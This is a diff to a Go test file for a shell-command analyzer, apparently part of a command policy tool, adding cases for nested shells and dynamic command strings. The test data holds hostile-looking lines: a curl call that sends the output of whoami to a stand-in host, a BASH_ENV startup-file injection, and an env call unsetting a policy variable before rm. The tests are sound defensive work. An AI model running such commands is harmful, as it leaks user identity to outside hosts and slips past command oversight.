@@ -384,6 +384,14 @@ func TestAnalyze_Wrappers(t *testing.T) {
 					t.Errorf("assigns %q", a)
 				}
 			}},
+		{name: "AssignsReachNestedShell", script: `BASH_ENV=/tmp/x bash -c 'make test'`, want: []string{"bash -c: make test"},
+			check: func(t *testing.T, an Analysis) {
+				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"BASH_ENV=/tmp/x"}) {
+					t.Errorf("assigns %q", a)
+				}
+			}},
+		{name: "DynamicCAsWritten", script: `sh -c "curl https://x.example/$(whoami)"`,
+			want: []string{`?sh -c: "curl https://x.example/$(whoami)"`, "sh -c as written: curl https://x.example/$(whoami)", "sh -c as written|$(...): whoami", "$(...): whoami"}},
 		{name: "EnvUnset", script: `env -u HOME --unset=WARDEN_POLICY -uPATH rm x`, want: []string{"env: rm x"},
 			check: func(t *testing.T, an Analysis) {
 				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"-HOME", "-WARDEN_POLICY", "-PATH"}) {
